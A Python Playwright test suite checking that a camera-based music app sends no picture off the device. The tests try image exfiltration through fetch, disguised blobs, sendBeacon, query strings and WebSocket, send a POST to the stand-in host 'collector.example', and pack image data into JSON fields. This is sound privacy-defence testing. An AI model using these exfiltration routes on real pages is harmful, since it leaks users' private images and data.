"""No picture leaves the device: a whole session is recorded and judged."""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.e2e.browser import sample
from tests.e2e.conftest import NewPage
from tests.e2e.conversation import Recorder, Said, faults
from tests.e2e.server import Server
from tests.e2e.youtube import cut_off_youtube


def test_nothing_of_the_picture_leaves_the_page_in_a_whole_session(
    new_page: NewPage, listening_server: Server
) -> None:
    page = new_page(locale="en-US")
    recorder = Recorder(page.context)
    page.goto(listening_server.url)
    page.get_by_role("link", name="Start", exact=True).click()
    page.get_by_role("button", name="Start with the camera").click()
    with page.expect_request("**/api/observations", timeout=60_000):
        expect(page.get_by_test_id("now-playing")).to_have_attribute(
            "data-state", "playing", timeout=40_000
        )
    page.get_by_role("button", name="Next song").click()
    page.get_by_role("button", name="I like it").click()
    page.get_by_role("button", name="Stop song and camera").click()
    page.get_by_role("link", name="Today", exact=True).click()
    expect(page.get_by_test_id("day-songs")).to_contain_text("Sine")

    page.get_by_role("link", name="What leaves this device").click()
    expect(page.get_by_test_id("traffic")).to_contain_text("/api/observations")
    page.wait_for_load_state("networkidle")
    rows = page.get_by_test_id("traffic").locator("tbody tr")
    listed = rows.evaluate_all(
        "(all) => all.map(({ dataset: { method, url, bytes } }) => [method, url, Number(bytes)])"
    )
    said = recorder.said()
    assert unlisted(said, listed) == []
    asked = {one.url.removeprefix(listening_server.url).split("?")[0] for one in said}
    assert {"/api/queue", "/api/plays", "/api/observations"} <= asked
    assert faults(said, listening_server.url) == []


def unlisted(said: list[Said], listed: list[list[Any]]) -> list[str]:
    """What was said otherwise than the page lists it: its requests, and the bytes of their bodies.

    The service worker asks once more for what a page asks it for, so only bytes are counted.
    """
    page = {(method, url): sent for method, url, sent in listed}
    sent: Counter[tuple[str, str]] = Counter()
    for one in said:
        if urlsplit(one.url).scheme not in {"data", "blob"}:
            sent[one.method, one.url] += one.length
    return [
        f"{method} {url}: {length} bytes, listed {page.get((method, url))}"
        for (method, url), length in sent.items()
        if page.get((method, url)) != length
    ]


WAYS_OUT = {
    "bytes": "fetch('/api/x', { method: 'POST', body: bytes })",
    "blob": "fetch('/api/x', { method: 'POST', body: new Blob([bytes], { type: 'image/jpeg' }) })",
    "nameless blob": "fetch('/api/x', { method: 'POST', body: new Blob([bytes]) })",
    "disguised blob": "fetch('/api/x', { method: 'PUT', body: new Blob([bytes.slice(0, 4000)],"
    " { type: 'application/json' }) })",
    "form": "fetch('/api/x', { method: 'POST', body: form })",
    "beacon": "navigator.sendBeacon('/api/x', new Blob([bytes]))",
    "address": "fetch('/api/x?' + 'a'.repeat(3000))",
    "socket": "new WebSocket(location.origin.replace('http', 'ws') + '/api/x').send",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_the_recorder_notices_a_picture_on_every_way_out_of_a_page(
    new_page: NewPage, server: Server, way: str
) -> None:
    page = new_page(clip=None)
    page.goto(server.url)
    recorder = Recorder(page.context)
    page.evaluate(
        f"""async () => {{
          const bytes = new Uint8Array(6000).fill(200);
          const form = new FormData();
          form.append('picture', new Blob([bytes]));
          await {WAYS_OUT[way]};
          await new Promise((resolve) => setTimeout(resolve, 200));
        }}"""
    )
    mine = [one for one in recorder.said() if "/api/x" in one.url]
    assert len(mine) == 1
    assert faults(mine, server.url)


def test_the_browser_itself_refuses_to_send_anything_elsewhere(
    new_page: NewPage, server: Server
) -> None:
    page = new_page(clip=None)
    cut_off_youtube(page.context)
    page.goto(server.url)
    refusal = page.evaluate(
        """() => new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (violation) =>
            resolve(violation.effectiveDirective));
          fetch('https://collector.example/', { method: 'POST', body: 'x' }).catch(() => {});
        })"""
    )
    assert refusal == "connect-src"


JPEG = sample("single_face.jpg").read_bytes()


PLAIN: dict[str, Any] = {
    "id": "0b8f9a52-7d0c-4b36-9f0e-3b1c2f6f9d11",
    "observed_at": "2026-11-23T09:00:00.000Z",
    "duration_s": 10.05,
    "emotion": "sadness",
    "probabilities": [0.0123, 0.1, 0.0877, 0.1, 0.7, 0],
    "unsure_share": 0.1,
}


def heard(path: str, content: Any) -> Said:
    body = json.dumps(content, separators=(",", ":")).encode()
    return Said("POST", f"http://own{path}", "application/json", body, len(body))


def observed(**otherwise: Any) -> Said:
    """An observation as it is sent, but for some values."""
    return heard("/api/observations", {"observations": [PLAIN | otherwise]})


@pytest.mark.parametrize(
    "said",
    [
        Said("POST", "http://own/api/observations", "image/jpeg", JPEG[:4000], 4000),
        observed(unsure_share="x " * 4500),
        observed(emotion="/9j/4AAQSkZJRgABAQ"),
        observed(emotion="sadness" * 7),
        observed(probabilities=[128] * 19),
        observed(probabilities=[0.1] * 7),
        observed(duration_s=10**30),
        observed(probabilities=[[1, 2, 3]] * 6, duration_s=[0.5] * 7),
        observed(picture=1),
        heard("/api/observations", {"observations": [PLAIN] * 20}),
        heard("/api/observations", {"observations": [PLAIN], "more": 1}),
        heard("/api/queue", {"without": [128] * 199}),
        heard("/api/pictures", {}),
        Said("GET", "https://elsewhere.example/", "", b"", 0),
        Said("GET", "https://player.example/", "", b"", 0, cookie="who=me"),
        Said("POST", "https://player.example/", "application/json", b"{}", 2),
    ],
)
def test_the_judge_of_requests_notices(said: Said) -> None:
    assert faults([said], "http://own", {"player.example"})


def test_the_judge_of_requests_lets_pass_what_is_sent() -> None:
    said = [observed(), observed(probabilities=None), Said("GET", "http://own/", "", b"", 0)]
    assert faults(said, "http://own") == []


def test_the_server_accepts_no_picture_where_it_accepts_observations(
    server: Server, tmp_path: Path, new_page: NewPage
) -> None:
    page = new_page(clip=None)
    page.goto(server.url)
    answer = page.request.post(
        f"{server.url}/api/observations",
        data=JPEG,
        headers={"content-type": "image/jpeg", "origin": server.url},
    )
    assert answer.status in {413, 415}
